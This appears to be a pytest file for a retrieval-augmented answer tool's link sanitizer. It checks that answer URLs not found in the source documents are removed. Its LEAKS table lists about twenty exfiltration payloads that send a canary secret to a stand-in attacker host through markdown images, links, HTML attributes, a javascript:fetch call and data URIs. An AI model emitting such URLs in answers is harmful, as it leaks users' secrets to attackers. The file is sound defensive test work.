"""URLs in an answer: those from the documents stay, others are removed."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from ragkit.answer.link_sanitizer import sanitize_links

DOCUMENT = "See https://docs.example/guide?x=1#top and https://evil.example/?q= for more."
SECRET = "canary-4711"

LEAKS = {
    "image": f"![x](https://evil.example/?q={SECRET})",
    "image with spaces": f"![x](<https://evil.example/?q= {SECRET}>)",
    "image by reference": f"![x][r]\n\n[r]: https://evil.example/?q={SECRET}",
    "image by shortcut": f"![r]\n\n[r]: https://evil.example/?q={SECRET}",
    "link": f"[here](https://evil.example/?q={SECRET})",
    "link with a title": f"[here](https://evil.example/?q={SECRET} 'title')",
    "autolink": f"<https://evil.example/?q={SECRET}>",
    "bare": f"https://evil.example/?q={SECRET}",
    "bracket": f"https://evil.example/?q=)({SECRET})",
    "quote": f"https://evil.example/?q='{SECRET}",
    "host": f"https://{SECRET}.evil.example/",
    "user": f"https://{SECRET}@evil.example/",
    "no scheme": f"[here](//evil.example/?q={SECRET})",
    "capitals": f"HTTPS://evil.example/?q={SECRET}",
    "other scheme": f"ftp://evil.example/{SECRET}",
    "web socket": f"wss://evil.example/{SECRET}",
    "html": f'<img src="https://evil.example/?q= {SECRET}">',
    "html without quotes": f"<img src=https://evil.example/?q={SECRET}>",
    "style": f"<p style=\"background:url('https://evil.example/?q={SECRET}')\">",
    "script": f"javascript:fetch('https://evil.example/?q={SECRET}')",
    "data": f"data:text/html;base64,{SECRET}",
}


@pytest.mark.parametrize("name", [name for name in LEAKS if name != "host"])
def test_a_url_that_exfiltrates_data_is_removed(name: str) -> None:
    result = sanitize_links(f"Answer [1]. {LEAKS[name]}", [DOCUMENT])
    assert SECRET not in result
    assert "://evil" not in result.lower()
    page = MarkdownIt("commonmark", {"linkify": False}).render(result)
    assert 'src="http' not in page
    assert SECRET not in page


def test_a_secret_in_a_host_name_is_shown_but_not_linked() -> None:
    assert sanitize_links(LEAKS["host"], [DOCUMENT]) == f"[link removed: {SECRET}.evil.example]"


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example/guide?x=1#top.",
        "See [the guide](https://docs.example/guide?x=1#top), then go on [1].",
        "No address: a/b, 1//2 is 0, C:\\x, ratio 3:4, [1][2], and // in code.",
        "In C a line ends with\n```c\nint x; //comment\n```",
    ],
)
def test_urls_of_the_documents_stay(text: str) -> None:
    assert sanitize_links(text, [DOCUMENT]) == text


def test_an_image_of_the_documents_becomes_a_link() -> None:
    assert sanitize_links("![x](https://docs.example/guide?x=1#top)", [DOCUMENT]) == (
        "[x](https://docs.example/guide?x=1#top)"
    )


def test_a_call_before_a_citation_is_not_an_image() -> None:
    assert sanitize_links("Yes![1] And ![2](https://k.example/).", ["https://k.example/"]) == (
        "Yes![1] And [2](https://k.example/)."
    )
